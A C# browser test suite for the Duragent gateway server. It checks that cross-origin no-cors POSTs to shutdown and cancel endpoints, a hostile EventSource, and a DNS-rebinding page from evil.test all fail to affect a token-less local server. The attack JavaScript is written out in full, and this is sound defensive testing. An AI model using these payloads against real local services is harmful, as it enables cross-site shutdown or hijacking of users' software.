using System.Globalization;
using Duragent.FakeLlm;
using Duragent.Gateway.Http.Problems;
using Duragent.Sessions;

namespace Duragent.Gateway.Http.Tests.Browser;

/// <summary>
/// Issue 7, part 3, attacked for real: headless Chromium opens a page served from another port on 127.0.0.1 (another
/// origin) or, for DNS rebinding, from a host name mapped to 127.0.0.1, and the page attacks a token-less Duragent
/// server the way any web site the user visits could. Each test checks the server's state afterwards.
/// </summary>
[Trait("Category", "Slow")]
public sealed class BrowserAttackTests
{
    [ChromiumFact]
    public async Task NoCorsPostToShutdown_FromAnotherOrigin_LeavesTheServerRunning()
    {
        await using var kit = await GatewayKit.StartAsync();
        await using var site = await AttackSite.StartAsync(Page($$"""
            fetch("{{kit.BaseAddress}}api/admin/v1/shutdown", { method: "POST", mode: "no-cors" })
              .then(() => report("done", "sent"), e => report("done", "error " + e));
            """));

        Assert.Equal("sent", await Chromium.BrowseAsync(SiteUrl(site), site.ReportAsync("done"), "the page's no-cors POST to the shutdown endpoint"));

        Assert.False(kit.App.Lifetime.ApplicationStopping.IsCancellationRequested, "the server began to stop");
        using var ready = await kit.Client.GetAsync("readyz");
        await Http.ExpectAsync(ready, 200);
        Assert.Contains(kit.Logs.Records, r => r.Message.Contains("Refused POST /api/admin/v1/shutdown", StringComparison.Ordinal));
    }

    [ChromiumFact]
    public async Task NoCorsPostToCancel_FromAnotherOrigin_DoesNotCancelTheTurn()
    {
        await using var kit = await GatewayKit.StartAsync();
        var (session, gate) = await StartTurnAsync(kit);
        await using var site = await AttackSite.StartAsync(Page($$"""
            fetch("{{kit.BaseAddress}}api/v1/sessions/{{session}}/cancel", { method: "POST", mode: "no-cors" })
              .then(() => report("done", "sent"), e => report("done", "error " + e));
            """));

        Assert.Equal("sent", await Chromium.BrowseAsync(SiteUrl(site), site.ReportAsync("done"), "the page's no-cors POST to the cancel endpoint"));

        Assert.Equal(SessionStatus.Running, (await kit.GetSessionAsync(session)).Status);
        await using var observer = await SseClient.OpenAsync(kit, session, "?attach=false");
        gate.Release();
        var completed = await observer.ReadUntilAsync("turn_completed");
        Assert.Contains("\"outcome\":\"completed\"", completed.Data, StringComparison.Ordinal);
    }

    [ChromiumFact]
    public async Task EventSourceFromAnotherOrigin_DoesNotPauseARunningTurn()
    {
        await using var kit = await GatewayKit.StartAsync(onDisconnect: "pause");
        var (session, gate) = await StartTurnAsync(kit);
        await using var site = await AttackSite.StartAsync(Page($$"""
            const source = new EventSource("{{kit.BaseAddress}}api/v1/sessions/{{session}}/stream");
            source.onmessage = () => {};
            source.onerror = () => { const state = source.readyState; source.close(); report("done", "error " + state); };
            """));

        var outcome = await Chromium.BrowseAsync(SiteUrl(site), site.ReportAsync("done"), "the page's EventSource to fail");

        Assert.StartsWith("error", outcome, StringComparison.Ordinal);
        var info = await kit.GetSessionAsync(session);
        Assert.Equal(SessionStatus.Running, info.Status);
        Assert.Equal(0, info.AttachedClients);
        await using var observer = await SseClient.OpenAsync(kit, session, "?attach=false");
        gate.Release();
        await observer.ReadUntilAsync("turn_completed");
        Assert.DoesNotContain(observer.Received, e => e.EventType == "status_changed" && e.Data.Contains("\"to\":\"paused\"", StringComparison.Ordinal));
    }

    [ChromiumFact]
    public async Task DnsRebinding_CannotCreateASessionOrStopTheServer()
    {
        // The page is loaded from http://evil.test:P while the attacker's server holds port P; then "DNS rebinds": the
        // attacker's server goes away and Duragent takes port P, so the page's same-origin requests reach Duragent
        // with Host: evil.test:P and an Origin that matches that Host. Reports go to a second site.
        await using var collector = await AttackSite.StartAsync("<html></html>");
        var attacker = await AttackSite.StartAsync(Page($$"""
            report("loaded", "");
            (async () => {
              for (;;) {
                try {
                  const create = await fetch("/api/v1/sessions", { method: "POST", headers: { "Content-Type": "application/json" }, body: JSON.stringify({ agent: "assistant" }) });
                  if (create.status !== 418) {
                    report("create", create.status + " " + await create.text());
                    const shutdown = await fetch("/api/admin/v1/shutdown", { method: "POST" });
                    report("shutdown", shutdown.status + " " + await shutdown.text());
                    return;
                  }
                } catch (e) {
                }
                await new Promise(resolve => setTimeout(resolve, 100));
              }
            })();
            """, $"http://127.0.0.1:{collector.Port}"));
        var port = attacker.Port;
        GatewayKit? kit = null;
        try
        {
            async Task<string> RebindAsync()
            {
                await collector.ReportAsync("loaded");
                await attacker.DisposeAsync();
                kit = await GatewayKit.StartAsync(port: port);
                await collector.ReportAsync("create");
                return await collector.ReportAsync("shutdown");
            }

            var shutdown = await Chromium.BrowseAsync(
                new Uri($"http://evil.test:{port.ToString(CultureInfo.InvariantCulture)}/"),
                RebindAsync(),
                "the rebound page's requests to Duragent",
                "--host-resolver-rules=MAP evil.test 127.0.0.1");
            var create = await collector.ReportAsync("create");

            Assert.StartsWith("403 ", create, StringComparison.Ordinal);
            Assert.Contains(ProblemCodes.HostNotAllowed, create, StringComparison.Ordinal);
            Assert.StartsWith("403 ", shutdown, StringComparison.Ordinal);
            Assert.NotNull(kit);
            Assert.False(kit.App.Lifetime.ApplicationStopping.IsCancellationRequested, "the server began to stop");
            using var list = await kit.Client.GetAsync("api/v1/sessions");
            Assert.Empty((await Http.JsonAsync(list)).GetProperty("sessions").EnumerateArray());
        }
        finally
        {
            await attacker.DisposeAsync();
            if (kit is not null)
            {
                await kit.DisposeAsync();
            }
        }
    }

    private static async Task<(string Session, FakeGate Gate)> StartTurnAsync(GatewayKit kit)
    {
        var gate = new FakeGate();
        kit.Llm.Enqueue(FakeResponse.Text("a", "b").WithGate(gate, 0));
        var session = await kit.CreateSessionAsync();
        await kit.SendAsync(session.SessionId, "go");
        await gate.WaitReachedAsync(GatewayKit.Wait);
        return (session.SessionId, gate);
    }

    private static Uri SiteUrl(AttackSite site) => new($"http://127.0.0.1:{site.Port.ToString(CultureInfo.InvariantCulture)}/");

    // The attack page: report(step, result) sends a result to the collecting site (this site unless told otherwise).
    private static string Page(string script, string collector = "") => $$"""
        <!doctype html>
        <html><body><script>
        function report(step, result) {
          return fetch("{{collector}}/report?step=" + step + "&result=" + encodeURIComponent(result), { mode: "no-cors" });
        }
        {{script}}
        </script></body></html>
        """;
}
